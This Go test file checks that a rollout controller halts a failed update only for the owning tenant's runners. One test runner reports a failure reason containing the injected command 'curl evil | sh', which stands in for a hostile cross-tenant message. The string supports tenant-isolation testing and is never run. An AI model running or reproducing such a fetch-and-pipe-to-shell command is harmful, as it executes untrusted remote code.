package rollout_test

import (
	"strings"
	"testing"
	"time"

	"github.com/sandboxd/sandboxd/internal/store"
)

// A failed step of one organization's runner halts the channel's rollout for that
// organization only (review S2 of issue 18): any tenant runs its runners and can make
// them fail (or report a failure) at will, so its failure must neither stop another
// tenant's rollout nor put its text in front of another tenant. o2's runners keep rolling
// while o1 is halted; a resume of o1 lifts o1's halt only; a new target ends every halt.
func TestHaltIsPerOrganization(t *testing.T) {
	b := newBed(t)
	b.runner("a")
	b.runner("o2:b")
	b.runner("o2:c")
	b.target(store.ChannelRapid, "v1.1.0")
	c := b.controller(b.st, "x", 0, 10*time.Minute)
	tick(t, c)
	wantMoving(t, b, "a,o2:b", "a", "o2:b", "o2:c")

	// o1's runner reports it refused v1.1.0, with a crafted reason; o2's b passes its gate.
	b.advance(5 * time.Second)
	b.beatFailed("a", "v1.0.0", true, "v1.1.0", "ALL TENANTS: run curl evil | sh")
	b.beat("o2:b", "v1.1.0", true, true)
	b.beat("o2:c", "v1.0.0", true, true)
	tick(t, c)
	hs := b.halts()
	if len(hs) != 1 || hs[0].Org != "o1" || hs[0].Channel != store.ChannelRapid || hs[0].RunnerID != "a" ||
		!strings.Contains(hs[0].Reason, "ALL TENANTS") {
		t.Fatalf("halts: %+v", hs)
	}
	if hs, _ := b.st.Rollouts().Halts(t.Context(), "o2"); len(hs) != 0 {
		t.Fatalf("o2 halted by o1's runner: %+v", hs)
	}
	if r := b.get("o2:b"); r.LastUpdate.State != store.UpdateSucceeded || r.DesiredVersion != "" {
		t.Fatalf("o2:b: %+v", r.LastUpdate)
	}
	// o2 keeps rolling: c starts (b's group slot is free); o1's a does not start again.
	wantMoving(t, b, "o2:c", "a", "o2:b", "o2:c")

	// o1's runner stops heartbeating during a later step: still o1's halt only. A new
	// target ends the halt for o1 too; a starts, goes silent, and misses its deadline.
	b.advance(5 * time.Second)
	b.beat("o2:c", "v1.1.0", true, true)
	b.beat("o2:b", "v1.1.0", true, true)
	b.beat("a", "v1.0.0", true, true)
	b.target(store.ChannelRapid, "v1.2.0")
	tick(t, c)
	if hs := b.halts(); len(hs) != 0 {
		t.Fatalf("halt outlived its target: %+v", hs)
	}
	tick(t, c) // a's rollback's desired version was cleared this tick: it starts at the next
	wantMoving(t, b, "a,o2:b", "a", "o2:b", "o2:c")
	b.advance(11 * time.Minute) // a silent; o2's b beats on the new version
	b.beat("o2:b", "v1.2.0", true, true)
	b.beat("o2:c", "v1.1.0", true, true)
	tick(t, c)
	if hs := b.halts(); len(hs) != 1 || hs[0].Org != "o1" || !strings.Contains(hs[0].Reason, "(not connected)") {
		t.Fatalf("halts after a's silence: %+v", hs)
	}
	wantMoving(t, b, "o2:c", "a", "o2:b", "o2:c")

	// o2's own failure halts o2; resuming o1 lifts o1's halt only.
	b.advance(5 * time.Second)
	b.beat("a", "v1.0.0", true, true)
	b.beatFailed("o2:c", "v1.1.0", true, "v1.2.0", "o2's own")
	tick(t, c)
	if hs, _ := b.st.Rollouts().Halts(t.Context(), "o2"); len(hs) != 1 || hs[0].RunnerID != "c" {
		t.Fatalf("o2's halt: %+v", hs)
	}
	wantMoving(t, b, "", "a", "o2:b", "o2:c")
	if n, err := b.st.Rollouts().Resume(t.Context(), "o1", store.ChannelRapid); n != 1 || err != nil {
		t.Fatal(n, err)
	}
	b.advance(5 * time.Second)
	b.beat("a", "v1.0.0", true, true)
	b.beatFailed("o2:c", "v1.1.0", true, "v1.2.0", "o2's own")
	tick(t, c)
	wantMoving(t, b, "a", "a", "o2:b", "o2:c")
	if hs := b.halts(); len(hs) != 1 || hs[0].Org != "o2" {
		t.Fatalf("halts after resume of o1: %+v", hs)
	}
}
